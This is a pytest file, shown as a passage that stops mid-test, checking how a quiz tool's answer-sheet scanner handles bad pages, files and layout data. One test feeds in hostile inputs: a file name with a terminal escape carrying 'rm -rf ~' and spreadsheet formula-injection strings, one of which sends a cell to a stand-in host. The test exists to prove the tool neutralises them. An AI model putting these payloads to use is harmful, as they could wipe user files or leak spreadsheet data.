"""quiz scan's bookkeeping and bad input: pages missing, scanned twice, unreadable or foreign; files
that are not scans; a layout file that is not one. Nothing is guessed and nothing raises a traceback."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

cv2 = pytest.importorskip("cv2")
pytest.importorskip("pypdfium2")

import numpy as np  # noqa: E402

from attnquiz.engine.scan.batch import read_page, read_scans  # noqa: E402
from attnquiz.engine.scan.class_answers import assemble, write_outputs  # noqa: E402
from attnquiz.engine.scan.fields import WRITTEN_ON_SHEET  # noqa: E402
from attnquiz.engine.scan.layout import ScanError, layout_from_json, load_layout  # noqa: E402
from attnquiz.engine.scan.opencv import MAX_PIXELS  # noqa: E402
from attnquiz.engine.scan.page import read_image  # noqa: E402
from attnquiz.engine.scan.page_files import load_page, page_cap, pages_of, scan_files  # noqa: E402
from attnquiz.engine.scan.page_read import PageRead  # noqa: E402
from attnquiz.engine.scan.review import (  # noqa: E402
    NO_FIELD_CROP,
    NO_PAGE_IMAGE,
    NO_SCAN,
    REVIEW_PREFIX,
    ReviewItem,
    load_review,
)
from attnquiz.engine.scan.settle import ABSENT_VALUE, STRAY_VALUE, readings  # noqa: E402
from tests.engine import scan_pens as pens  # noqa: E402
from tests.engine.scan_class import Sheets  # noqa: E402


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> tuple[Sheets, Path]:
    from attnquiz.engine.bank import finding as banks
    from attnquiz.engine.export.files import write
    from attnquiz.engine.plan.class_plan import plan_class

    out = tmp_path_factory.mktemp("sheets") / "out"
    plan = plan_class(banks.load("week1"), students=2, master_seed=8, per_topic=1)
    write(plan, "pdf", out, key=None, jobs=1, answer_sheet=True)
    return Sheets.load(out), out


def _scan(sheets: Sheets, page: int, marks: dict[str, str], seed: int = 0) -> np.ndarray:
    rng = np.random.default_rng(seed)
    image = sheets.fill(page, marks, 200, rng, pens.PEN)
    data = pens.scan(image, pens.Scanner(200, angle=1.5, noise=3), rng)
    return np.asarray(cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_GRAYSCALE))


def test_missing_and_duplicate_pages_go_to_the_review(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    layout = layout_from_json(made.layout)
    key = made.layout["key"]["1"]
    column, ids = next(iter(key.items()))
    first = [b for b in ids if made.bubbles[b]["page"] == 1]
    page1 = read_image(_scan(made, 1, dict.fromkeys(first, "full")), layout, "a.png", 0, keep_crops=True)
    again = read_image(_scan(made, 1, dict.fromkeys(first, "full"), seed=1), layout, "b.png", 0)
    other = read_image(_scan(made, 1, {}), layout, "c.png", 0, keep_crops=True)  # the same page, blank
    result = assemble(layout, [page1, again])
    kinds = [(item.kind, item.value) for item in result.review]
    assert ("duplicate", "same") in kinds  # read the same twice: noted, settled
    assert any(kind == "missing" for kind, _ in kinds)  # page 2 of student 1 never came
    assert result.unscanned == [2]
    row = result.rows[1]
    assert row[column]
    assert not row[column].startswith(REVIEW_PREFIX)
    page2_columns = {f.column for spec in [layout.pages[1, 2]] for f in spec.fields}
    assert all(row[c].startswith(REVIEW_PREFIX) for c in page2_columns if c in row)
    differing = assemble(layout, [page1, other])
    assert differing.rows[1][column].startswith(REVIEW_PREFIX)  # two scans that disagree: not guessed
    item = next(i for i in differing.open_items if i.column == column)
    assert "a.png: " in item.reason, item.reason
    assert "c.png: " in item.reason, item.reason
    assert differing.crops[item.crop][:4] == b"\x89PNG"  # both scans' crops of the field
    # a page scanned over and over: the crops and readings of the first few, the rest counted
    many = assemble(layout, [page1, *[other] * 11])
    item = next(i for i in many.open_items if i.column == column)
    assert "on 12 scans of page 1" in item.reason, item.reason
    assert "8 more scans not shown" in item.reason, item.reason
    assert len(item.reason) < 400
    # read without keeping crops, the item says why it has no picture
    bare = [read_image(_scan(made, 1, {}, seed=s), layout, f"{s}.png", 0) for s in (3, 4)]
    bare[0].values[column] = {0: "1"}
    item = next(i for i in assemble(layout, bare).open_items if i.column == column)
    assert not item.crop
    assert item.no_crop == NO_FIELD_CROP


def test_an_unreadable_qr_code_is_asked_about(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    layout = layout_from_json(made.layout)
    page = made.page_image(1, 200).copy()
    qr = made.layout["pages"][0]["qr"]
    f = 200 / 72
    page[
        int(qr["y"] * f) : int((qr["y"] + qr["size"]) * f), int(qr["x"] * f) : int((qr["x"] + qr["size"]) * f)
    ] = 255
    read = read_image(page, layout, "x.png", 0)
    assert "QR code could not be read" in read.problem
    assert read.image[:4] == b"\x89PNG"
    result = assemble(layout, [read])
    assert result.review[0].kind == "page"
    assert result.crops


@pytest.mark.parametrize(
    "image",
    [
        np.full((20, 20), 255, np.uint8),
        np.zeros((600, 400), np.uint8),
        np.random.default_rng(1).integers(0, 256, (900, 640), dtype=np.uint8),
    ],
)
def test_a_page_that_is_not_an_answer_sheet(sheets: tuple[Sheets, Path], image: np.ndarray) -> None:
    layout = layout_from_json(sheets[0].layout)
    read = read_image(image, layout, "x.png", 0)
    assert read.problem
    assert read.student is None


def test_bad_files(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    _, out = sheets
    layout = load_layout(out / "answer-sheets.json")
    (tmp_path / "x.txt").write_text("hello")
    with pytest.raises(ScanError, match="PDF, PNG or JPEG"):
        pages_of([tmp_path / "x.txt"])
    (tmp_path / "x.pdf").write_bytes(b"%PDF-1.4 garbage")
    with pytest.raises(ScanError, match="not a readable PDF"):
        pages_of([tmp_path / "x.pdf"])
    (tmp_path / "x.png").write_bytes(b"not an image")
    assert "not a readable image" in read_page(tmp_path / "x.png", 0, layout).problem
    (tmp_path / "layout.json").write_text(json.dumps({"format": "something else"}))
    with pytest.raises(ScanError, match=r"not an answer-sheets\.json"):
        load_layout(tmp_path / "layout.json")
    (tmp_path / "broken.json").write_text('{"format": "quiz-answer-sheets"}')
    with pytest.raises(ScanError, match="damaged"):
        load_layout(tmp_path / "broken.json")


def test_a_page_of_another_export_is_refused(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    foreign = dict(made.layout, export="0000000000")
    read = read_image(_scan(made, 1, {}), layout_from_json(foreign), "x.png", 0)
    assert "another export" in read.problem


def test_the_printed_pdf_itself_reads_blank(sheets: tuple[Sheets, Path]) -> None:
    _, out = sheets
    layout = load_layout(out / "answer-sheets.json")
    pages = read_scans([out / "answer-sheets.pdf"], layout, jobs=1)
    result = assemble(layout, pages)
    assert not result.open_items
    assert sorted(result.rows) == [1, 2]
    assert all(
        cell == "" for row in result.rows.values() for c, cell in row.items() if c not in ("student", "code")
    )


def test_fix_names_a_page_whose_qr_code_was_unreadable(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    import subprocess
    import sys

    made, out = sheets
    key = made.layout["key"]["1"]
    marks = {b: "full" for ids in key.values() for b in ids}
    rng = np.random.default_rng(3)
    page = made.fill(1, marks, 200, rng, pens.PEN)
    qr = made.layout["pages"][0]["qr"]
    f = 200 / 72
    page[
        int(qr["y"] * f) : int((qr["y"] + qr["size"]) * f), int(qr["x"] * f) : int((qr["x"] + qr["size"]) * f)
    ] = 255
    (tmp_path / "p1.png").write_bytes(pens.scan(page, pens.Scanner(200, angle=181.0, noise=2), rng))
    (tmp_path / "p2.png").write_bytes(
        pens.scan(made.fill(2, marks, 200, rng, pens.PEN), pens.Scanner(200), rng)
    )

    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
            input=stdin, timeout=600, check=False,
        )  # fmt: skip

    sheets_file = str(out / "answer-sheets.json")
    done = quiz("scan", "p1.png", "p2.png", "--sheets", sheets_file, "-o", "answers.csv", "-j", "1")
    assert done.returncode == 1
    assert "Read 2 pages: 1 student → answers.csv." in done.stdout
    assert "QR code could not be read" in (tmp_path / "answers.review.json").read_text()
    done = quiz("scan", "--fix", "-o", "answers.csv", stdin="one\n1 1\n")
    assert "give the student number" in done.stdout  # a bad answer is asked again, not taken
    assert done.returncode == 0, done.stdout + done.stderr
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text()))}
    first_page = {made.bubbles[i]["page"] for ids in key.values() for i in ids}
    assert 1 in first_page
    columns = {f["column"] for f in made.layout["fields"] if f["page"] == 1 and f["kind"] == "number"}
    assert columns
    assert all(rows["1"][c] and not rows["1"][c].startswith("?review") for c in columns)
    # a new scan would lose what --fix settled: refused without --overwrite
    done = quiz("scan", "p2.png", "--sheets", sheets_file, "-o", "answers.csv", "-j", "1")
    assert done.returncode == 1
    assert "--overwrite" in done.stderr


def test_huge_pages_are_not_rendered_in_gigabytes(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument.new()
    document.new_page(14_400, 14_400)  # 200 inches square: 800 MB at 200 dpi
    document.save(str(tmp_path / "huge.pdf"))
    document.close()
    image = load_page(tmp_path / "huge.pdf", 0)
    assert image.size <= MAX_PIXELS
    read = read_page(tmp_path / "huge.pdf", 0, layout_from_json(sheets[0].layout))
    assert "corner squares" in read.problem


def _number_field(made: Sheets, columns: int = 2) -> dict[str, Any]:
    """A number field of student 1 with at least ``columns`` whole-part digit columns."""
    return next(
        f
        for f in made.layout["fields"]
        if f["kind"] == "number" and f["student"] == 1 and f["grid"]["integers"] >= columns
    )


def _read_number(
    made: Sheets, field: dict[str, Any], marks: dict[str, str], written: dict[str, str], **kw: Any
) -> PageRead:
    rng = np.random.default_rng(kw.get("seed", 5))
    pen = kw.get("pen", pens.PEN)
    image = made.fill(field["page"], marks, kw.get("dpi", 200), rng, pen, written=written)
    data = pens.scan(image, pens.Scanner(kw.get("dpi", 200), angle=-1.2, noise=3, jpeg=80), rng)
    if kw.get("cut"):
        data = pens.bilevel(data, kw["cut"])
    gray = cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_GRAYSCALE)
    return read_image(gray, layout_from_json(made.layout), "p.png", 0)


@pytest.mark.parametrize("seed", range(3))
def test_a_digit_written_but_not_bubbled_is_never_dropped(sheets: tuple[Sheets, Path], seed: int) -> None:
    made, _ = sheets
    field = _number_field(made)
    fid, last = field["id"], field["grid"]["integers"] - 1
    # "12" written, only the 2 bubbled: the bubbles alone spell 2, a valid number
    marks = {f"{fid}.i{last}.2": "full"}
    written = {f"{fid}.i{last - 1}": "1", f"{fid}.i{last}": "2"}
    read = _read_number(made, field, marks, written, seed=seed)
    (flag,) = [f for f in read.flags if f.field == fid]
    assert "written" in flag.reason, flag.reason
    assert "no bubble" in flag.reason, flag.reason
    assert flag.read == "2"  # what the bubbles spell, shown beside the crop
    assert flag.crop[:4] == b"\x89PNG"
    assert field["column"] not in read.values or field["entry"] not in read.values[field["column"]]
    # "12" bubbled with nothing written above the 1
    marks = {f"{fid}.i{last - 1}.1": "full", f"{fid}.i{last}.2": "full"}
    read = _read_number(made, field, marks, {f"{fid}.i{last}": "2"}, seed=seed)
    (flag,) = [f for f in read.flags if f.field == fid]
    assert "no digit written above it" in flag.reason, flag.reason
    # both written and bubbled: read
    read = _read_number(made, field, marks, {f"{fid}.i{last - 1}": "1", f"{fid}.i{last}": "2"}, seed=seed)
    assert not [f for f in read.flags if f.field == fid]
    assert read.values[field["column"]][field["entry"]] == "12"


def test_a_bilevel_page_is_said_and_its_broken_pencil_doubted(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    field = _number_field(made)
    fid, last = field["id"], field["grid"]["integers"] - 1
    marks = {f"{fid}.i{last - 1}.2": "light", f"{fid}.i{last}.4": "full"}
    grey = _read_number(made, field, marks, made.written(marks), pen=pens.PENCIL)
    assert not grey.notes
    assert grey.values[field["column"]][field["entry"]] == "24"
    # a black-and-white scan whose cut breaks the light 2 up: never read as "4"
    for cut in (100, 110, 125):
        read = _read_number(made, field, marks, made.written(marks), pen=pens.PENCIL, cut=cut)
        assert read.notes
        assert "black-and-white" in read.notes[0]
        got = read.values.get(field["column"], {}).get(field["entry"])
        assert got in (None, "24"), (cut, got, [f.reason for f in read.flags])
        result = assemble(layout_from_json(made.layout), [read])
        assert [i.kind for i in result.review if i.kind == "note"] == ["note"]
        assert not [i for i in result.open_items if i.kind == "note"]
    # a scan so washed out that the ink is barely darker than the paper
    image = made.fill(
        field["page"], marks, 200, np.random.default_rng(1), pens.PEN, written=made.written(marks)
    )
    faint = (170 + image.astype(np.float32) * (85 / 255)).astype(np.uint8)
    read = read_image(faint, layout_from_json(made.layout), "p.png", 0)
    assert read.notes
    assert "low-contrast" in read.notes[0]


def test_a_concept_answer_cell_says_it_is_on_the_sheet(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    concept = next(f for f in made.layout["fields"] if f["kind"] == "concept" and f["student"] == 1)
    rng = np.random.default_rng(2)
    image = made.fill(concept["page"], {f"{concept['id']}.mark.1": "full"}, 200, rng, pens.PEN)
    x, y, _w, h = (v * 200 / 72 for v in concept["write_box"])
    cv2.putText(
        image, "a causal mask hides", (int(x + 20), int(y + h / 2)), cv2.FONT_HERSHEY_SIMPLEX, 1.2, (30,), 3
    )
    data = pens.scan(image, pens.Scanner(200, angle=0.8, noise=2), rng)
    gray = cv2.imdecode(np.frombuffer(data, np.uint8), cv2.IMREAD_GRAYSCALE)
    layout = layout_from_json(made.layout)
    result = assemble(layout, [read_image(gray, layout, "p.png", 0)])
    row = result.rows[1]
    mark_column = concept["column"]
    answer_column = mark_column.rsplit(" mark", 1)[0]
    assert row[mark_column] == "1"
    assert row[answer_column] == WRITTEN_ON_SHEET


def test_two_bubbles_in_a_column_offer_the_likely_reading(sheets: tuple[Sheets, Path]) -> None:
    made, _ = sheets
    field = next(
        f for f in made.layout["fields"] if f["kind"] == "number" and f["entries"] == 2 and f["entry"] == 0
    )
    sibling = next(f for f in made.layout["fields"] if f["column"] == field["column"] and f["entry"] == 1)
    fid, last = field["id"], field["grid"]["integers"] - 1
    marks = {f"{fid}.i{last - 1}.1": "full", f"{fid}.i{last}.2": "full", f"{fid}.i{last}.7": "full"}
    marks[f"{sibling['id']}.i{last}.5"] = "full"  # the vector's other entry: 5
    written = {f"{fid}.i{last - 1}": "1", f"{fid}.i{last}": "2", f"{sibling['id']}.i{last}": "5"}
    rng = np.random.default_rng(4)
    image = made.fill(field["page"], marks, 300, rng, pens.PEN, written=written)
    # one stroke of an X that the pen lifted before finishing: past the 7's circle on one side only
    b = made.bubbles[f"{fid}.i{last}.7"]
    x, y, r = (v * 300 / 72 for v in (b["x"], b["y"], b["r"]))
    cv2.line(image, (int(x), int(y)), (int(x + 2.1 * r), int(y + 2.1 * r)), (30,), 3)
    gray = cv2.imdecode(
        np.frombuffer(pens.scan(image, pens.Scanner(300, angle=0.7, noise=2), rng), np.uint8), 0
    )
    layout = layout_from_json(made.layout)
    read = read_image(gray, layout, "p.png", 0)
    (flag,) = [f for f in read.flags if f.field == fid]
    assert "two bubbles filled" in flag.reason
    assert flag.likely == "12"
    assert flag.readings == ("12", "17")
    # the answers file holds the whole vector: the readings are offered whole
    item = next(i for i in assemble(layout, [read]).review if i.field == fid)
    assert readings(item) == ["[12, 5]", "[17, 5]"]
    assert ReviewItem.from_json(item.to_json()).likely == "[12, 5]"
    # with the other entry in doubt as well, no whole reading can be offered
    read.values[field["column"]].pop(1)
    item = next(i for i in assemble(layout, [read]).review if i.field == fid)
    assert not readings(item)
    assert not item.likely


def test_a_folder_of_scans_is_read_in_natural_order(tmp_path: Path) -> None:
    for name in ("page-10.png", "page-2.JPG", "notes.txt", "page-1.pdf"):
        (tmp_path / name).write_bytes(b"x")
    (tmp_path / "inner").mkdir()
    assert [p.name for p in scan_files([tmp_path])] == ["page-1.pdf", "page-2.JPG", "page-10.png"]
    (tmp_path / "empty").mkdir()
    with pytest.raises(ScanError, match="no PDF, PNG or JPEG"):
        scan_files([tmp_path / "empty"])


def test_fix_settles_a_stray_page_and_a_page_not_handed_in(
    tmp_path: Path, sheets: tuple[Sheets, Path]
) -> None:
    import subprocess
    import sys

    from attnquiz.engine.bank import finding as banks
    from attnquiz.engine.export.files import write
    from attnquiz.engine.plan.class_plan import plan_class

    made, out = sheets
    other = tmp_path / "other"
    write(
        plan_class(banks.load("week1"), students=2, master_seed=9, per_topic=1),
        "pdf",
        other,
        key=None,
        jobs=1,
        answer_sheet=True,
    )
    rng = np.random.default_rng(6)
    folder = tmp_path / "scans"
    folder.mkdir()
    key = made.layout["key"]["1"]
    marks = {b: "full" for ids in key.values() for b in ids}
    for name, image in (
        ("a-1.png", made.fill(1, marks, 200, rng, pens.PEN)),  # student 1's page 1; their page 2 never came
        ("a-2.png", Sheets.load(other).fill(1, {}, 200, rng, pens.PEN)),  # a page of another export
    ):
        (folder / name).write_bytes(pens.scan(image, pens.Scanner(200, angle=0.5, noise=2), rng))

    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
            input=stdin, timeout=600, check=False,
        )  # fmt: skip

    done = quiz("scan", "scans", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv", "-j", "1")
    assert done.returncode == 1, done.stdout + done.stderr
    review = json.loads((tmp_path / "answers.review.json").read_text())
    kinds = sorted(i["kind"] for i in review["items"] if i["value"] is None)
    assert kinds == ["missing", "page"], review["items"]
    assert "page None" not in done.stdout
    # `ignore` is refused (asked again), then the page is set aside; the missing page is recorded absent
    done = quiz("scan", "--fix", "-o", "answers.csv", stdin="stray\nignore\nabsent\n")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Settled 2; 0 left" in done.stdout
    assert "page None" not in done.stdout
    review = json.loads((tmp_path / "answers.review.json").read_text())
    values = {i["kind"]: i["value"] for i in review["items"]}
    assert values["page"] == STRAY_VALUE
    assert values["missing"] == ABSENT_VALUE
    rows = list(csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text())))
    page2 = {f["column"] for f in made.layout["fields"] if f["student"] == 1 and f["page"] == 2}
    assert all(rows[0][c] == "" for c in page2 if c in rows[0])
    assert not any(cell.startswith(REVIEW_PREFIX) for row in rows for cell in row.values())


@pytest.mark.parametrize(
    "shape", [(1, 3200), (3200, 1), (2, 6400), (10, 32000), (150, 150), (4000, 400), (0, 0), (5, 5, 3)]
)
def test_an_image_that_is_no_page_is_one_line_and_the_batch_goes_on(
    tmp_path: Path, sheets: tuple[Sheets, Path], shape: tuple[int, ...]
) -> None:
    made, out = sheets
    layout = load_layout(out / "answer-sheets.json")
    sliver = np.full(shape, 255, np.uint8)
    read = read_image(sliver, layout, "sliver.png", 0)
    assert read.problem
    assert "\n" not in read.problem
    if min(shape[:2]) > 0 and len(shape) == 2:
        cv2.imwrite(str(tmp_path / "sliver.png"), sliver)
        (tmp_path / "good.png").write_bytes(
            pens.scan(
                made.fill(1, {}, 200, np.random.default_rng(1), pens.PEN),
                pens.Scanner(200),
                np.random.default_rng(1),
            )
        )
        pages = read_scans([tmp_path / "sliver.png", tmp_path / "good.png"], layout, jobs=1)
        result = assemble(layout, pages)
        assert [p.problem == "" for p in pages] == [False, True]
        write_outputs(result, tmp_path / "answers.csv", tmp_path / "answers.review.json")
        assert (tmp_path / "answers.csv").read_text().count("\n") == 2  # the header and student 1


def _damaged(layout: dict[str, Any]) -> dict[str, Any]:
    copy: dict[str, Any] = json.loads(json.dumps(layout))
    return copy


DAMAGE: dict[str, Any] = {
    "no corner marks": lambda d: d.update(corner_marks=[]),
    "three corner marks": lambda d: d.update(corner_marks=d["corner_marks"][:3]),
    "marks in one place": lambda d: d.update(corner_marks=[d["corner_marks"][0]] * 4),
    "zero page size": lambda d: d.update(page_size=[0, 0]),
    "page size a string": lambda d: d.update(page_size="a4"),
    "huge radius": lambda d: [b.update(r=1e9) for b in d["bubbles"]],
    "zero radius": lambda d: [b.update(r=0) for b in d["bubbles"]],
    "nan bubble": lambda d: d["bubbles"][0].update(x=float("nan")),
    "infinite box": lambda d: d["fields"][0].update(box=[0, 0, float("inf"), 1]),
    "box of three": lambda d: d["fields"][0].update(box=[0, 0, 1]),
    "a billion entries": lambda d: [f.update(entries=10**9) for f in d["fields"] if f["kind"] == "number"],
    "grid without keys": lambda d: [f.update(grid={}) for f in d["fields"] if f["kind"] == "number"],
    "grid of 10**6 columns": lambda d: [
        f["grid"].update(integers=10**6) for f in d["fields"] if f["kind"] == "number"
    ],
    "title a number": lambda d: [f.update(title=7) for f in d["fields"]],
    "unknown kind": lambda d: d["fields"][0].update(kind="essay"),
    "pages a dict": lambda d: d.update(pages={"1": 1}),
    "qr off the page": lambda d: d["pages"][0].update(qr={"x": 1e12, "y": 0, "size": 66}),
    "no pages": lambda d: d.update(pages=[]),
}


@pytest.mark.parametrize("damage", sorted(DAMAGE))
def test_a_damaged_layout_file_is_one_line(tmp_path: Path, sheets: tuple[Sheets, Path], damage: str) -> None:
    made, out = sheets
    data = _damaged(made.layout)
    DAMAGE[damage](data)
    path = tmp_path / "answer-sheets.json"
    path.write_text(json.dumps(data))
    try:
        layout = load_layout(path)
    except ScanError as exc:
        said = str(exc)
        layout = None
    if layout is None:
        assert "\n" not in said
        assert "damaged" in said or "not a" in said
        return
    # what loads is read and written, page by page, without a traceback
    pages = read_scans([out / "answer-sheets.pdf"], layout, jobs=1)
    write_outputs(assemble(layout, pages), tmp_path / "answers.csv", tmp_path / "answers.review.json")


def test_deep_json_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "answer-sheets.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ScanError, match="not a JSON file"):
        load_layout(path)


def test_too_many_pages_are_refused_before_any_is_read(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    import pypdfium2 as pdfium

    _, out = sheets
    layout = load_layout(out / "answer-sheets.json")
    document = pdfium.PdfDocument.new()
    for _ in range(page_cap(layout) + 5):
        document.new_page(595, 842)
    document.save(str(tmp_path / "huge.pdf"))
    with pytest.raises(ScanError, match="is it the right file"):
        read_scans([tmp_path / "huge.pdf"], layout, jobs=1)


def test_terminal_and_spreadsheet_are_never_commanded(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    import subprocess
    import sys

    made, out = sheets
    rng = np.random.default_rng(8)
    page = made.page_image(1, 200).copy()
    qr = made.layout["pages"][0]["qr"]
    f = 200 / 72
    page[
        int(qr["y"] * f) : int((qr["y"] + qr["size"]) * f), int(qr["x"] * f) : int((qr["x"] + qr["size"]) * f)
    ] = 255
    hostile = "scan\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e.png"
    (tmp_path / hostile).write_bytes(pens.scan(page, pens.Scanner(200), rng))
    field = _number_field(made)
    marks = {f"{field['id']}.i{field['grid']['integers'] - 1}.4": "faint"}
    (tmp_path / "b.png").write_bytes(
        pens.scan(made.fill(field["page"], marks, 200, rng, pens.PEN), pens.Scanner(200), rng)
    )

    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
            input=stdin, timeout=600, check=False,
        )  # fmt: skip

    done = quiz("scan", hostile, "b.png", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv")
    assert done.returncode == 1, done.stdout + done.stderr
    typed = '=HYPERLINK("http://x.test/?"&A1)\n-HYPERLINK("http://x.test")\n+cmd|\' /C calc\'!A0\n'
    done = quiz("scan", "--fix", "-o", "answers.csv", stdin=f"stray\n{typed}-4\n" + "skip\n" * 5)
    for text in (done.stdout, done.stderr):
        assert "\x1b" not in text
        assert "\x07" not in text
        assert "\u202e" not in text
    assert "spreadsheet" in done.stdout
    cells = (tmp_path / "answers.csv").read_text()
    assert "HYPERLINK" not in cells
    assert "cmd|" not in cells
    assert "-4" in cells  # a signed number is an answer, not a formula


def test_every_page_problem_is_settled_by_a_piped_fix(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    """A batch with every kind of page problem: a page of another export, a strip that is no page, a
    page whose QR code is torn off, a page scanned twice, a page never scanned; `--fix` from a pipe
    settles them all, and no cell is left under review."""
    import subprocess
    import sys

    from attnquiz.engine.bank import finding as banks
    from attnquiz.engine.export.files import write
    from attnquiz.engine.plan.class_plan import plan_class

    made, out = sheets
    other = tmp_path / "other"
    plan = plan_class(banks.load("week1"), students=2, master_seed=9, per_topic=1)
    write(plan, "pdf", other, key=None, jobs=1, answer_sheet=True)
    rng = np.random.default_rng(12)
    folder = tmp_path / "scans"
    folder.mkdir()
    marks = {b: "full" for key in made.layout["key"].values() for ids in key.values() for b in ids}

    def scanned(image: np.ndarray) -> bytes:
        return pens.scan(image, pens.Scanner(200, angle=float(rng.uniform(-2, 2)), noise=3, jpeg=85), rng)

    torn = made.fill(3, marks, 200, rng, pens.PENCIL)  # student 2's page 1, its QR code torn off
    qr = next(p for p in made.layout["pages"] if p["page"] == 3)["qr"]
    f = 200 / 72
    top, left = int(qr["y"] * f), int(qr["x"] * f)
    torn[top : top + int(qr["size"] * f), left : left + int(qr["size"] * f)] = 255
    pages = {
        "p01.jpg": scanned(made.fill(1, marks, 200, rng, pens.PEN)),
        "p02.jpg": scanned(made.fill(1, marks, 200, rng, pens.PEN)),  # the same page again
        "p03.jpg": scanned(made.fill(2, marks, 200, rng, pens.PEN)),
        "p04.jpg": scanned(torn),
        "p05.jpg": scanned(Sheets.load(other).fill(1, {}, 200, rng, pens.PEN)),
        # student 2's page 2 never scanned
    }
    for name, data in pages.items():
        (folder / name).write_bytes(data)
    cv2.imwrite(str(folder / "p06.png"), np.full((1, 3200), 255, np.uint8))

    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
            input=stdin, timeout=600, check=False,
        )  # fmt: skip

    done = quiz("scan", "scans", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv")
    assert done.returncode == 1, done.stdout + done.stderr
    items = json.loads((tmp_path / "answers.review.json").read_text())["items"]
    assert [i["kind"] for i in items if i["value"] is None] == ["page", "page", "page"], items
    assert any(i["kind"] == "duplicate" and i["value"] == "same" for i in items)
    # the torn page is student 2's page 1; student 2's page 2, now known to be missing (asked next),
    # was not handed in; the other two pages are set aside
    done = quiz("scan", "--fix", "-o", "answers.csv", stdin="2 1\nabsent\nstray\nstray\n")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "0 left" in done.stdout
    assert "page None" not in done.stdout
    rows = list(csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text())))
    assert [r["student"] for r in rows] == ["1", "2"]
    assert not any(cell.startswith(REVIEW_PREFIX) for row in rows for cell in row.values() if cell)
    key_columns = set(made.layout["key"]["2"])
    page1 = {f["column"] for f in made.layout["fields"] if f["page"] == 3} & key_columns
    assert all(rows[1][c] for c in page1 if c in rows[1])  # read from the page named by hand


def test_a_black_and_white_pdf_page_is_noted(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    """A bilevel scan inside a PDF (a 1-bit image) is rendered with grey edges: known from the PDF."""
    made, out = sheets
    field = _number_field(made)
    fid, last = field["id"], field["grid"]["integers"] - 1
    marks = {f"{fid}.i{last - 1}.2": "light", f"{fid}.i{last}.4": "full"}
    rng = np.random.default_rng(3)
    image = made.fill(field["page"], marks, 300, rng, pens.PENCIL)
    (tmp_path / "bw.pdf").write_bytes(
        pens.one_bit_pdf(pens.scan(image, pens.Scanner(300, angle=0.6), rng), 300, 120)
    )
    layout = load_layout(out / "answer-sheets.json")
    for dpi in (150, 200, 300):
        (read,) = read_scans([tmp_path / "bw.pdf"], layout, jobs=1, dpi=dpi)
        assert not read.problem
        assert read.notes
        assert "black-and-white" in read.notes[0]
        assert read.values.get(field["column"], {}).get(field["entry"]) in (None, "24")


def test_every_review_item_has_its_crop_or_says_why_not(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
    """A batch with a page scanned twice that reads differently, a vector with two entries in doubt and
    empty ones beside them, a page missing and a file that is no image: every item of the review has a
    crop that exists (both scans' for a field read differently, the empty entries with the flagged ones),
    or says why it has none, in the review file and in `--fix`; one item settles a vector's cell."""
    import subprocess
    import sys

    made, out = sheets
    layout = layout_from_json(made.layout)

    def field(student: int, column: str, entry: int) -> dict[str, Any]:
        return next(
            f
            for f in made.layout["fields"]
            if f["student"] == student and f["column"] == column and f.get("entry") == entry
        )

    def digits(student: int, column: str, entry: int, *values: str) -> dict[str, str]:
        """Bubbles spelling ``values`` in the last columns of an entry (two in one column: in doubt)."""
        f = field(student, column, entry)
        last = f["grid"]["integers"] - 1
        return {f"{f['id']}.i{last - k}.{d}": "full" for k, ds in enumerate(reversed(values)) for d in ds}

    shape, vector = "encoder-output-shape", "additive-weights"
    rng = np.random.default_rng(21)

    def scanned(page: int, marks: dict[str, str]) -> bytes:
        image = made.fill(page, marks, 200, rng, pens.PEN)
        return pens.scan(image, pens.Scanner(200, angle=float(rng.uniform(-2, 2)), noise=3, jpeg=85), rng)

    doubted = {**digits(1, vector, 0, "1", "27"), **digits(1, vector, 1, "38")}  # 12 or 17; 3 or 8
    folder = tmp_path / "scans"
    folder.mkdir()
    for name, data in {
        # student 1's page 1 twice: the shape's second entry reads 4 on one scan and 6 on the other
        "a.jpg": scanned(1, {**doubted, **digits(1, shape, 0, "3"), **digits(1, shape, 1, "4")}),
        "b.jpg": scanned(1, {**doubted, **digits(1, shape, 0, "3"), **digits(1, shape, 1, "6")}),
        # student 1's page 2 never scanned; student 2's vector: one entry in doubt, three left empty
        "c.jpg": scanned(
            3, {**digits(2, vector, 0, "27"), **digits(2, shape, 0, "3"), **digits(2, shape, 1, "4")}
